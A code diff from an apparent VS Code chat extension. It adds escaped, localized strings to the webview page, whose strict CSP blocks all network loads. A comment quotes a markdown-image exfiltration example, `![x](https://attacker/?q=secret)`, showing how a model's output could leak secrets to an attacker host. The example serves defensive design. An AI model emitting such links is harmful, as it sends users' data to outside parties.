@@ -1,4 +1,6 @@
 import * as vscode from 'vscode';
+import { escapeHtml } from '../core/escapeHtml';
+import { webviewStrings } from './webviewStrings';
 
 /** 128 random bits from the platform's secure source: a CSP nonce must not be guessable. */
 export function nonce(): string {
@@ -8,7 +10,8 @@ export function nonce(): string {
 /**
  * The chat view's page. The CSP allows only our own bundle (by nonce) and stylesheet, images
  * from our media folder and data: URIs we create, and no network at all: a model's
- * `![x](https://attacker/?q=secret)` cannot load.
+ * `![x](https://attacker/?q=secret)` cannot load. The webview's strings, localized here, ride
+ * in `data-strings` (escaped: a translation is text, never markup).
  */
 export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): string {
   const n = nonce();
@@ -35,7 +38,7 @@ export function chatHtml(webview: vscode.Webview, extensionUri: vscode.Uri): str
 <title>Parley</title>
 </head>
 <body>
-<div id="app" data-testid="parley-chat"></div>
+<div id="app" data-testid="parley-chat" data-strings="${escapeHtml(JSON.stringify(webviewStrings()))}"></div>
 <script nonce="${n}" src="${script}"></script>
 </body>
 </html>`;
